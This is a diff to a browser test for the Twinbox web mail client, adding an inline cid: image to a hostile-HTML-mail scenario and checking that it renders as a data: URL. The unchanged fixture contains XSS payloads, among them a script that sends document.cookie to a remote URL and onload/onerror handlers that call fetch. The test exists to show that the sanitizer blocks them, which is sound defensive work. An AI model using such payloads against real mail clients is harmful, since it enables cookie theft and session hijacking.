@@ -12,7 +12,7 @@ import { join } from 'node:path';
 import MailComposer from 'nodemailer/lib/mail-composer';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { TwinboxSystem, freePort, launchChromium, phoneContext } from '@twinbox/testkit';
+import { ROOT, TwinboxSystem, freePort, launchChromium, phoneContext } from '@twinbox/testkit';
 
 interface Hit {
   path: string;
@@ -28,6 +28,7 @@ function hostileHtml(remote: string): string {
 <script>fetch("${remote}/script?c=" + document.cookie); parent.document.title = "pwned";</script>
 </head><body onload="fetch('${remote}/onload')">
 <p class="x">Dear customer, <b>your invoice</b> is attached.</p>
+<img id="logo" src="cid:logo@evil.test" alt="logo">
 <img src="${remote}/pixel.gif" width="1" height="1" alt="">
 <img src="x" onerror="fetch('${remote}/onerror'); alert('xss')">
 <div style="background-image: url(${remote}/inline-bg.png)">styled</div>
@@ -69,6 +70,8 @@ describe('hostile HTML mail in the web app', () => {
       text: 'Dear customer, your invoice is attached.',
       html: hostileHtml(remoteUrl),
       headers: { 'X-Scenario-Label': 'EVIL' },
+      // An inline image (cid:) is part of the mail, not remote: it shows at once.
+      attachments: [{ filename: 'logo.png', cid: 'logo@evil.test', contentType: 'image/png', content: readFileSync(join(ROOT, 'packages/sync-server/dist/web/icons/icon-192.png')) }],
     })
       .compile()
       .build();
@@ -102,6 +105,9 @@ describe('hostile HTML mail in the web app', () => {
     expect(hits).toEqual([]);
     expect(dialogs).toEqual([]);
     expect(await page.title()).toBe('Twinbox');
+    // The inline image is shown (as a data: URL), before and without "show images".
+    await expect.poll(() => body().locator('#logo').evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(192);
+    expect(await body().locator('#logo').getAttribute('src')).toMatch(/^data:image\/png;base64,/);
     // What the sanitizer left: no script, handler, form, frame, object, SVG or meta; links only http(s), opening a new tab.
     const frame = page.frames().find((f) => f.url().includes('/view'))!;
     const left = await frame.evaluate(() => ({
